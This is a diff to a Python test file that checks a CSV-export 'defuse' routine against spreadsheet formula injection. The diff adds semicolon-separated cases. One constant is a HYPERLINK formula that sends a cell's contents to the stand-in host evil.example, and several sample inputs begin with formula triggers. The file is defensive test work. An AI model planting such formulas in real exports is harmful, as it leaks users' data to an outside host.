@@ -14,14 +14,21 @@ from alliance.report import write_open_data
 
 MD5 = "0cc175b9c0f1b6a831c399e269772661"
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-formula_like = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "]), max_size=8)
+formula_like = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", ";"]), max_size=12)
 
 
 @given(formula_like | st.text(max_size=20))
 def test_defused_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
     defused = defuse(text)
     assert restore(defused) == text
-    assert not defused.lstrip("'") or defused[0] not in FORMULA_STARTS
+    for part in defused.split(";"):  # a German or French spreadsheet splits cells on ";" too
+        assert not part.lstrip("'") or part[0] not in FORMULA_STARTS
+
+
+def test_a_formula_after_a_semicolon_is_defused() -> None:
+    assert defuse("x;=1+1") == "x;'=1+1" and restore("x;'=1+1") == "x;=1+1"
+    assert defuse("a;b;@SUM(1)") == "a;b;'@SUM(1)"
+    assert defuse("tags: a; b") == "tags: a; b"  # a space first: text in every spreadsheet
 
 
 def test_ordinary_text_is_left_alone() -> None:
@@ -30,13 +37,15 @@ def test_ordinary_text_is_left_alone() -> None:
 
 
 def test_hash_list_csv_defuses_notes_tags_and_metadata_and_reads_them_back() -> None:
-    record = MediaRecord((Signal("md5", MD5),), {"tags": ["-x", "ok"], "case": "@SUM(1)"}, note=ATTACK)
+    metadata = {"tags": ["-x", "ok"], "case": "@SUM(1)", "where": "x;=1+1"}
+    record = MediaRecord((Signal("md5", MD5),), metadata, note=ATTACK)
     text = te_csv.write([record])
     row = next(csv.DictReader(io.StringIO(text)))
     assert row["note"] == "'" + ATTACK and row["case"] == "'@SUM(1)" and row["tags"] == "'-x ok"
+    assert row["where"] == "x;'=1+1"
     assert row["signal_value"] == MD5
     (back,) = te_csv.read(text)
-    assert (back.note, back.metadata) == (ATTACK, {"tags": ["-x", "ok"], "case": "@SUM(1)"})
+    assert (back.note, back.metadata) == (ATTACK, metadata)
 
 
 def test_csv_for_people_defuses_text_cells(capsys, tmp_path) -> None:
